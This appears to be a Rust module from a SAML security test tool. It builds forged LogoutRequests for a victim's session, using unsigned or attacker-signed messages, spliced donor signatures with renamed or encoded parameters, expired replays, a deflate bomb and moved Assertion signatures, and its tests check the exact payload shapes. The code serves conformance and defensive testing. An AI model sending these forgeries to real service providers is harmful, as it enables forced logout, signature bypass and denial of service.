//! Sign-out messages for a signed-in session, forged: the IdP's LogoutRequest for the victim
//! sent so that only an SP that authenticates it, and reads the query as the binding says,
//! refuses it (the `slo/` checks and the Redirect-binding `bind/redirect/` ones).

use base64::Engine;
use saml_protocol::{ASSERTION_NS, DSIG_NS};
use time::format_description::well_known::Rfc3339;
use time::{Duration, OffsetDateTime};

use crate::bytes::{after_name, attr_value, child, insert, try_splice, Doc};
use crate::check::{LogoutDonors, LogoutForgery, SignedLogout};
use crate::forge::{IdpKey, Skip};

/// The raw `name=value` pairs of `query` whose name is one of `names`, in query order.
fn pairs<'q>(query: &'q str, names: &[&str]) -> Vec<&'q str> {
    query
        .split('&')
        .filter(|p| names.contains(&p.split('=').next().unwrap_or_default()))
        .collect()
}

/// The Redirect-binding query carrying `xml` (the IdP's LogoutRequest for the victim), forged
/// as `forgery`, with the attacker's `donors` where it splices signed ones and the IdP's key
/// where the IdP signs it.
pub fn redirect_query(
    forgery: LogoutForgery,
    xml: &str,
    donors: LogoutDonors,
    idp_key: Option<&IdpKey>,
) -> Result<String, Skip> {
    let unsigned = saml_protocol::redirect::unsigned_query("SAMLRequest", xml, None);
    let forged = unsigned.strip_prefix("SAMLRequest=").unwrap_or(&unsigned);
    // The donor's signed parameters, in binding order (RelayState kept: it is signed too).
    let signed = |query, message| {
        let got = pairs(query, &[message, "RelayState", "SigAlg", "Signature"]);
        for name in [message, "SigAlg", "Signature"] {
            if !got.iter().any(|p| p.split('=').next() == Some(name)) {
                return Err(Skip::Failed(format!(
                    "the IdP's signed donor query has no {name}"
                )));
            }
        }
        Ok(got)
    };
    let signed_request = || signed(donors.request, "SAMLRequest");
    let signed_response = || signed(donors.response, "SAMLResponse");
    // The donor's `message` pair renamed with an `x` before it, the forgery under `message`.
    let prefixed = |pairs: Vec<&str>, message: &str| {
        let mut parts = Vec::new();
        for pair in pairs {
            if pair.starts_with(&format!("{message}=")) {
                parts.push(format!("x{pair}"));
                parts.push(format!("{message}={forged}"));
            } else {
                parts.push(pair.to_owned());
            }
        }
        parts.join("&")
    };
    let join = |parts: Vec<String>| parts.join("&");
    match forgery {
        LogoutForgery::Unsigned => Ok(unsigned),
        LogoutForgery::UntrustedKey => {
            let key = crate::crypto::attacker_key()?;
            saml_protocol::redirect::signed_query(&unsigned, donors.sig_alg, key)
                .map_err(Skip::Failed)
        }
        LogoutForgery::ResponseNameConfusion => {
            let mut parts = vec![format!("SAMLResponse={forged}")];
            parts.extend(signed_request()?.into_iter().map(str::to_owned));
            Ok(join(parts))
        }
        LogoutForgery::PrefixedParameter => Ok(prefixed(signed_request()?, "SAMLRequest")),
        LogoutForgery::PrefixedResponse => Ok(prefixed(signed_response()?, "SAMLResponse")),
        LogoutForgery::EncodedResponseName => {
            let mut parts = vec![format!("SAML%52esponse={forged}")];
            parts.extend(signed_response()?.into_iter().map(str::to_owned));
            Ok(join(parts))
        }
        LogoutForgery::EncodedName => {
            let mut parts = vec![format!("SAML%52equest={forged}")];
            parts.extend(signed_request()?.into_iter().map(str::to_owned));
            Ok(join(parts))
        }
        LogoutForgery::RequestBesideResponse => {
            let mut parts = vec![format!("SAMLRequest={forged}")];
            parts.extend(signed_response()?.into_iter().map(str::to_owned));
            Ok(join(parts))
        }
        LogoutForgery::Expired => {
            let expired =
                saml_protocol::redirect::unsigned_query("SAMLRequest", &expired(xml)?, None);
            saml_protocol::redirect::signed_query(
                &expired,
                donors.sig_alg,
                &needs_idp(idp_key)?.key,
            )
            .map_err(Skip::Failed)
        }
        LogoutForgery::DeflateBomb => {
            let bomb = crate::family::dos::after_padding(xml)?;
            let encoded = base64::engine::general_purpose::STANDARD.encode(bomb);
            saml_protocol::redirect::signed_query(
                &saml_protocol::redirect::pair("SAMLRequest", &encoded),
                donors.sig_alg,
                &needs_idp(idp_key)?.key,
            )
            .map_err(Skip::Failed)
        }
        LogoutForgery::PostUnsigned
        | LogoutForgery::PostUntrustedKey
        | LogoutForgery::PostAssertionSignature
        | LogoutForgery::PostExpired => Err(Skip::Failed(
            "an HTTP-POST forgery has no Redirect query".into(),
        )),
    }
}

/// The XML an HTTP-POST form carries to the single logout URL: `request` (the IdP's
/// LogoutRequest for the victim) forged as `forgery`.
pub fn post_xml(
    forgery: LogoutForgery,
    request: &SignedLogout,
    donors: LogoutDonors,
    idp_key: Option<&IdpKey>,
) -> Result<String, Skip> {
    match forgery {
        LogoutForgery::PostUnsigned => Ok(request.xml.to_owned()),
        LogoutForgery::PostUntrustedKey => {
            let cert = crate::crypto::attacker_cert(None)?;
            crate::crypto::resign(
                request.signed,
                crate::crypto::attacker_key()?,
                Some(&crate::crypto::key_info_x509(&cert)?),
            )
        }
        LogoutForgery::PostExpired => {
            crate::crypto::idp_resign(&expired(request.signed)?, needs_idp(idp_key)?)
        }
        LogoutForgery::PostAssertionSignature => assertion_signature(request.xml, donors.assertion),
        _ => Err(Skip::Failed(
            "an HTTP-Redirect forgery has no POST form".into(),
        )),
    }
}

/// The IdP's key, which only checks the IdP signs for are given.
fn needs_idp(idp_key: Option<&IdpKey>) -> Result<&IdpKey, Skip> {
    idp_key.ok_or_else(|| {
        Skip::NotApplicable("the IdP signs this message, and its key is not held here".into())
    })
}

/// The LogoutRequest `xml` as issued an hour before its IssueInstant, its NotOnOrAfter half an
/// hour before it: a message replayed after it expired, far past any clock-skew allowance
/// (times relative to the message's own, so no clock is needed).
fn expired(xml: &str) -> Result<String, Skip> {
    let doc = Doc::parse_built(xml)?;
    let root = doc.root();
    let issue_instant = attr_value(root, "IssueInstant")
        .ok_or_else(|| Skip::Failed("the IdP's LogoutRequest has no IssueInstant".into()))?;
    let text = &doc.src[issue_instant.clone()];
    let issued = OffsetDateTime::parse(text, &Rfc3339).map_err(|e| {
        Skip::Failed(format!(
            "the IdP's LogoutRequest IssueInstant {text:?} is not a time: {e}"
        ))
    })?;
    let late = saml_protocol::saml_time(issued - Duration::minutes(30));
    let mut edits = vec![(
        issue_instant,
        saml_protocol::saml_time(issued - Duration::minutes(60)),
    )];
    edits.push(match attr_value(root, "NotOnOrAfter") {
        Some(range) => (range, late),
        None => insert(
            after_name(doc.src, root),
            format!(" NotOnOrAfter=\"{late}\""),
        ),
    });
    try_splice(xml, edits)
}

/// The shape of samlify GHSA-63ch-w8pw-4mf2: the unsigned LogoutRequest `xml` given, after its
/// Issuer, the `ds:Signature` of the Assertion in `donor` (the attacker's own IdP-signed login
/// response), then `samlp:Extensions` holding that Assertion without its Signature. The
/// Reference still resolves and verifies; it names the Assertion, not the LogoutRequest.
fn assertion_signature(xml: &str, donor: &str) -> Result<String, Skip> {
    let donor = Doc::parse_built(donor)?;
    let not_signed = || {
        Skip::NotApplicable(
            "the attacker's own login response carries no plain signed Assertion (the IdP encrypts this app's tokens or signs only the Response), so there is no Assertion signature to move".into(),
        )
    };
    let assertion = donor.assertion().map_err(|_| not_signed())?;
    let signature = child(assertion, DSIG_NS, "Signature").ok_or_else(not_signed)?;
    let doc = Doc::parse_built(xml)?;
    let issuer = child(doc.root(), ASSERTION_NS, "Issuer")
        .ok_or_else(|| Skip::Failed("the IdP's LogoutRequest has no Issuer".into()))?;
    let prefix = doc
        .root()
        .tag_name()
        .namespace()
        .and_then(|ns| doc.root().lookup_prefix(ns))
        .map(|p| format!("{p}:"))
        .unwrap_or_default();
    let moved = format!(
        "{}<{prefix}Extensions>{}</{prefix}Extensions>",
        donor.outer(signature),
        donor.outer_without(assertion, Some(signature)),
    );
    try_splice(xml, vec![insert(issuer.range().end, moved)])
}

#[cfg(test)]
mod tests {
    use super::*;

    const XML: &str = "<samlp:LogoutRequest xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\"/>";
    const DONORS: LogoutDonors = LogoutDonors {
        request: "SAMLRequest=C&SigAlg=A&Signature=S",
        response: "SAMLResponse=R&SigAlg=A&Signature=T",
        sig_alg: "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256",
        assertion: "",
    };

    fn query(forgery: LogoutForgery) -> String {
        redirect_query(forgery, XML, DONORS, None).unwrap()
    }

    #[test]
    fn the_unsigned_query_has_no_signature_and_the_other_one_does() {
        let unsigned = query(LogoutForgery::Unsigned);
        assert!(unsigned.starts_with("SAMLRequest=") && !unsigned.contains("Signature"));
        let message = saml_protocol::redirect::read(&unsigned).unwrap();
        use base64::Engine as _;
        let deflated = base64::engine::general_purpose::STANDARD
            .decode(&message.value)
            .unwrap();
        let inflated = saml_protocol::inflate_bounded(&deflated, 1 << 16).unwrap();
        assert_eq!(inflated, XML.as_bytes(), "the IdP's XML, unchanged");
        let signed = query(LogoutForgery::UntrustedKey);
        assert!(signed.starts_with(&unsigned), "{signed}");
        assert!(
            signed.contains("&SigAlg=http%3a%2f%2fwww.w3.org") && signed.contains("&Signature=")
        );
    }

    #[test]
    fn the_bomb_inflates_to_line_feeds_then_the_request_and_its_query_signature_verifies() {
        let key = IdpKey {
            key: crate::crypto::attacker_key().unwrap().clone(),
        };
        let declared = format!("<?xml version=\"1.0\"?>{XML}");
        let bomb =
            redirect_query(LogoutForgery::DeflateBomb, &declared, DONORS, Some(&key)).unwrap();
        assert!(bomb.len() < 60_000, "{}", bomb.len());
        let message = saml_protocol::redirect::read(&bomb).unwrap();
        let cert = crate::crypto::attacker_cert(None).unwrap();
        assert!(message.signature.unwrap().verifies_with(&[cert]));
        use base64::Engine as _;
        let deflated = base64::engine::general_purpose::STANDARD
            .decode(&message.value)
            .unwrap();
        let padding = crate::family::dos::BOMB_PADDING;
        let inflated = saml_protocol::inflate_bounded(&deflated, (padding + 4096) as u64).unwrap();
        let (lines, rest) = inflated.split_at(padding);
        assert!(lines.iter().all(|b| *b == b'\n'));
        assert_eq!(
            rest,
            XML.as_bytes(),
            "the declaration dropped: nothing may precede one"
        );
        assert!(redirect_query(LogoutForgery::DeflateBomb, XML, DONORS, None).is_err());
    }

    #[test]
    fn the_expired_request_is_issued_an_hour_early_and_expired_half_an_hour_early() {
        let xml = "<samlp:LogoutRequest xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\" ID=\"_r\" IssueInstant=\"2026-12-02T12:00:00Z\"/>";
        let out = expired(xml).unwrap();
        assert!(out.contains("IssueInstant=\"2026-12-02T11:00:00"), "{out}");
        assert!(out.contains("NotOnOrAfter=\"2026-12-02T11:30:00"), "{out}");
        let again = expired(&out).unwrap();
        assert_eq!(again.matches("NotOnOrAfter").count(), 1, "{again}");
    }

    #[test]
    fn the_assertion_signature_moves_up_and_its_assertion_goes_into_extensions() {
        let request = "<samlp:LogoutRequest xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\" ID=\"_r\"><Issuer xmlns=\"urn:oasis:names:tc:SAML:2.0:assertion\">idp</Issuer><NameID xmlns=\"urn:oasis:names:tc:SAML:2.0:assertion\">victim</NameID></samlp:LogoutRequest>";
        let donor = "<samlp:Response xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\"><Assertion xmlns=\"urn:oasis:names:tc:SAML:2.0:assertion\" ID=\"_a\"><Issuer>idp</Issuer><Signature xmlns=\"http://www.w3.org/2000/09/xmldsig#\"><SignedInfo><Reference URI=\"#_a\"/></SignedInfo></Signature><Subject><NameID>attacker</NameID></Subject></Assertion></samlp:Response>";
        let out = assertion_signature(request, donor).unwrap();
        assert_eq!(
            out,
            "<samlp:LogoutRequest xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\" ID=\"_r\"><Issuer xmlns=\"urn:oasis:names:tc:SAML:2.0:assertion\">idp</Issuer>\
             <Signature xmlns=\"http://www.w3.org/2000/09/xmldsig#\"><SignedInfo><Reference URI=\"#_a\"/></SignedInfo></Signature>\
             <samlp:Extensions><Assertion xmlns=\"urn:oasis:names:tc:SAML:2.0:assertion\" ID=\"_a\"><Issuer>idp</Issuer><Subject><NameID>attacker</NameID></Subject></Assertion></samlp:Extensions>\
             <NameID xmlns=\"urn:oasis:names:tc:SAML:2.0:assertion\">victim</NameID></samlp:LogoutRequest>"
        );
        let unsigned = donor
            .replace("<Signature", "<X")
            .replace("</Signature>", "</X>");
        assert!(matches!(
            assertion_signature(request, &unsigned),
            Err(Skip::NotApplicable(_))
        ));
    }

    #[test]
    fn the_spliced_queries_have_the_published_shapes() {
        let forged = query(LogoutForgery::Unsigned);
        let f = forged.trim_start_matches("SAMLRequest=");
        assert_eq!(
            query(LogoutForgery::ResponseNameConfusion),
            format!("SAMLResponse={f}&SAMLRequest=C&SigAlg=A&Signature=S")
        );
        assert_eq!(
            query(LogoutForgery::PrefixedParameter),
            format!("xSAMLRequest=C&SAMLRequest={f}&SigAlg=A&Signature=S")
        );
        assert_eq!(
            query(LogoutForgery::EncodedName),
            format!("SAML%52equest={f}&SAMLRequest=C&SigAlg=A&Signature=S")
        );
        assert_eq!(
            query(LogoutForgery::RequestBesideResponse),
            format!("SAMLRequest={f}&SAMLResponse=R&SigAlg=A&Signature=T")
        );
        assert_eq!(
            query(LogoutForgery::EncodedResponseName),
            format!("SAML%52esponse={f}&SAMLResponse=R&SigAlg=A&Signature=T")
        );
        assert_eq!(
            query(LogoutForgery::PrefixedResponse),
            format!("xSAMLResponse=R&SAMLResponse={f}&SigAlg=A&Signature=T")
        );
    }
}
